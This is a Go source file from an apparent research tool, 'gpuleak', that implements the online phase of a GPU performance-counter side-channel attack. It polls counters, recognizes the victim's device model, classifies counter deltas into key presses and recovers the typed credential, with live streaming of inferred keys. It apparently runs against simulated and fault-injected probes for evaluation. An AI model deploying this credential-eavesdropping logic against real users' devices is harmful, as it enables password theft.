package attack

import (
	"context"
	"errors"
	"fmt"
	"math"

	"gpuleak/internal/fault"
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// ErrModelNotTrained reports an attack attempted without a classifier for
// the victim configuration — no models preloaded, or a registry lookup
// that was told not to train on miss. Match with errors.Is.
var ErrModelNotTrained = errors.New("attack: model not trained for configuration")

// Result is the outcome of one eavesdropping run.
type Result struct {
	// Model identifies the classifier chosen by device recognition.
	Model ModelKey
	// Keys are the inferred key presses (corrections already applied).
	Keys []InferredKey
	// Text is the eavesdropped credential.
	Text string
	// Stats reports the engine's internal bookkeeping.
	Stats EngineStats
	// EstimatedLength is the input length recovered from echo redraws
	// (§5.3/§9.1); -1 when no echo was observed.
	EstimatedLength int
	// Degraded reports that recovery machinery fired during the run —
	// sampler retries, re-reservations, dropped ticks, or engine gap
	// segmentation — so the inference ran on an incomplete trace. A
	// fault-free run always reports false.
	Degraded bool
	// Recovery details the sampler's recovery work (all zero when the run
	// was fault-free).
	Recovery CollectStats
}

// Attack is the end-to-end attacking application: preloaded per-device
// classification models, a polling interval, and the online engine
// options. It mirrors the victim-side monitoring service of Figure 4.
type Attack struct {
	// Models are the preloaded classifiers, one per device configuration.
	Models []*Model
	// Interval is the counter polling period (default 8 ms).
	Interval sim.Time
	// Options holds the online engine's ablation settings.
	Options OnlineOptions
	// Retry bounds recovery from transient device errors during sampling.
	// The zero value disables retrying — any device error aborts the run,
	// the behavior every fault-free experiment relies on. Pipeline derives
	// it from the stack it builds.
	Retry RetryPolicy
	// Errors is the transient-error taxonomy of the side channel the probe
	// was opened on, governing retry classification and re-reservation.
	// The zero value means the KGSL taxonomy; Pipeline sets each leg's
	// from its channel.
	Errors fault.Taxonomy
	// Classify, when non-nil, overrides per-delta classification for every
	// engine this attack builds (Eavesdrop, EavesdropTrace and the
	// streaming variants). It must agree with m.ClassifyDenoised(v) for
	// every input — the hook exists so a serving tier can coalesce
	// classification work across requests (micro-batching), never to
	// change verdicts. at is the sim-time of the delta being classified.
	Classify func(m *Model, at sim.Time, v trace.Vec) Verdict
	// Obs, when non-nil, receives sampler spans, per-delta verdict events
	// and monitor events from every run driven through this Attack.
	Obs *obs.Tracer
}

// New builds an attack from preloaded models.
func New(models ...*Model) *Attack {
	return &Attack{Models: models, Interval: DefaultInterval}
}

// taxonomy resolves the attack's channel error taxonomy (default KGSL).
func (a *Attack) taxonomy() fault.Taxonomy {
	if a.Errors.Valid() {
		return a.Errors
	}
	return fault.KGSL()
}

// retryable classifies a device error under the attack's taxonomy.
func (a *Attack) retryable(err error) bool { return RetryableIn(err, a.Errors) }

// Recognize picks the classification model whose launch-frame fingerprint
// best matches the first burst of activity in the delta stream (§3.2:
// readings are first used to recognize the current device model and
// configuration). The fingerprint window matches the offline labeling
// window: two polling intervals, enough to reassemble a split launch
// frame without swallowing unrelated events.
func (a *Attack) Recognize(ds []trace.Delta, interval sim.Time) (*Model, error) {
	if len(a.Models) == 0 {
		return nil, fmt.Errorf("no models preloaded: %w", ErrModelNotTrained)
	}
	if len(a.Models) == 1 {
		return a.Models[0], nil
	}
	if len(ds) == 0 {
		return nil, fmt.Errorf("attack: no activity to recognize a device from")
	}
	if interval <= 0 {
		interval = DefaultInterval
	}
	first := ds[0].At
	launch := ds[0].V
	for _, d := range ds[1:] {
		if d.At-first > 2*interval+sim.Millisecond {
			break
		}
		launch = launch.Add(d.V)
	}
	var best *Model
	bestDist := math.Inf(1)
	for _, m := range a.Models {
		// Normalize by the model's own launch magnitude so big-screen
		// devices do not dominate.
		norm := m.Launch.Norm(m.Weights)
		if norm <= 0 {
			norm = 1
		}
		d := launch.Dist(m.Launch, m.Weights) / norm
		if d < bestDist {
			bestDist = d
			best = m
		}
	}
	return best, nil
}

// engineFor builds the online engine for one recognized model, wiring
// the attack's observability and classification hooks.
func (a *Attack) engineFor(m *Model, interval sim.Time) *Engine {
	eng := NewEngine(m, interval, a.Options)
	eng.SetObs(a.Obs)
	if a.Classify != nil {
		eng.SetClassify(func(at sim.Time, v trace.Vec) Verdict { return a.Classify(m, at, v) })
	}
	return eng
}

// resultFrom assembles the Result of a finished engine run; shared by the
// batch and streaming paths so both produce identical results.
func (a *Attack) resultFrom(m *Model, eng *Engine) *Result {
	RecordEngineStats(a.Obs.Metrics(), eng.Stats())
	stats := eng.Stats()
	return &Result{
		Model:           m.Key,
		Keys:            eng.Keys(),
		Text:            eng.Text(),
		Stats:           stats,
		EstimatedLength: eng.EstimatedLength(),
		Degraded:        stats.Gaps > 0 || stats.Resyncs > 0,
	}
}

// EavesdropTrace runs device recognition and the online engine over a
// collected trace.
func (a *Attack) EavesdropTrace(tr *trace.Trace) (*Result, error) {
	ds := tr.Deltas()
	m, err := a.Recognize(ds, tr.Interval)
	if err != nil {
		return nil, err
	}
	eng := a.engineFor(m, tr.Interval)
	eng.ProcessAll(ds)
	return a.resultFrom(m, eng), nil
}

// Eavesdrop opens the sampling loop on a victim's probe over [start, end]
// and infers the typed credential. This is the full online phase: poll
// counters, recognize the device, classify deltas. f is any Probe — a raw
// *kgsl.File, a *fault.File when the run should face an injected fault
// schedule, or a defense-wrapped probe. Pipeline assembles such stacks
// for any channel, with the retry policy and taxonomy they need.
func (a *Attack) Eavesdrop(f Probe, start, end sim.Time) (*Result, error) {
	return a.EavesdropContext(context.Background(), f, start, end)
}

// EavesdropContext is Eavesdrop with cancellation: the sampling loop
// checks ctx at every polling tick, and the engine run is skipped when
// the context dies between sampling and inference. The result for a
// completed run is byte-identical to Eavesdrop — the context is a control
// channel, never an input to the inference.
func (a *Attack) EavesdropContext(ctx context.Context, f Probe, start, end sim.Time) (*Result, error) {
	return a.EavesdropStreamContext(ctx, f, start, end, nil)
}

// StreamEvent is one incremental online-phase notification: the §5
// engine committed a new key press, or withdrew keys it had previously
// reported (§5.2 app-switch rollback, §5.3 correction detection). The
// serving layer's streaming sessions forward these to clients the moment
// Algorithm 1 emits them.
type StreamEvent struct {
	// At is the sim-time of the delta that triggered the event.
	At sim.Time
	// Kind is "key" for a newly inferred press, "retract" when the engine
	// withdrew previously emitted keys.
	Kind string
	// Key is the inferred press (valid only for Kind "key").
	Key InferredKey
	// Keys is the number of keys the engine stands behind after this
	// event; after a retraction it is smaller than the event count so far.
	Keys int
}

// EavesdropStreamContext is EavesdropContext with live notification:
// emit, when non-nil, is invoked synchronously for every key the online
// engine commits and every retraction it performs, in delta order — the
// paper's real-time notification-bar display as an API. A non-nil error
// from emit aborts the run (a streaming client went away). The returned
// Result is byte-identical to EavesdropContext over the same inputs: the
// emission is a tap on Algorithm 1, never a fork of it.
func (a *Attack) EavesdropStreamContext(ctx context.Context, f Probe, start, end sim.Time, emit func(StreamEvent) error) (*Result, error) {
	res, _, stats, err := a.run(ctx, f, start, end, emit)
	if err != nil {
		return nil, err
	}
	res.addRecovery(stats)
	return res, nil
}

// addRecovery folds a run's sampler recovery work into its result.
func (r *Result) addRecovery(s CollectStats) {
	r.Recovery = s
	r.Degraded = r.Degraded || s.Degraded()
}

// run is the one sample-then-infer loop: reserve f, collect [start, end],
// recognize the device and run Algorithm 1, with emit tapping every
// commit and retraction. It returns the engine's result — Recovery unset
// and Degraded from gap segmentation only, exactly EavesdropTrace's shape
// — plus the trace and the sampler's recovery stats (set even when
// sampling fails). EavesdropStreamContext folds the stats into the
// result; a fused leg keeps the shape Fuse consumes.
func (a *Attack) run(ctx context.Context, f Probe, start, end sim.Time, emit func(StreamEvent) error) (*Result, *trace.Trace, CollectStats, error) {
	s, err := NewSamplerTaxonomy(f, a.Interval, a.Retry, a.Errors)
	if err != nil {
		return nil, nil, CollectStats{}, err
	}
	s.Obs = a.Obs
	tr, err := s.CollectContext(ctx, start, end)
	if err != nil {
		return nil, nil, s.Stats, err
	}
	if err := ctx.Err(); err != nil {
		return nil, nil, s.Stats, err
	}
	ds := tr.Deltas()
	m, err := a.Recognize(ds, tr.Interval)
	if err != nil {
		return nil, tr, s.Stats, err
	}
	eng := a.engineFor(m, tr.Interval)
	emitted := 0
	for _, d := range ds {
		eng.Process(d)
		if emit == nil {
			continue
		}
		keys := eng.Keys()
		if len(keys) < emitted {
			emitted = len(keys)
			if err := emit(StreamEvent{At: d.At, Kind: "retract", Keys: len(keys)}); err != nil {
				return nil, tr, s.Stats, err
			}
		}
		for ; emitted < len(keys); emitted++ {
			if err := emit(StreamEvent{At: d.At, Kind: "key", Key: keys[emitted], Keys: emitted + 1}); err != nil {
				return nil, tr, s.Stats, err
			}
		}
	}
	return a.resultFrom(m, eng), tr, s.Stats, nil
}
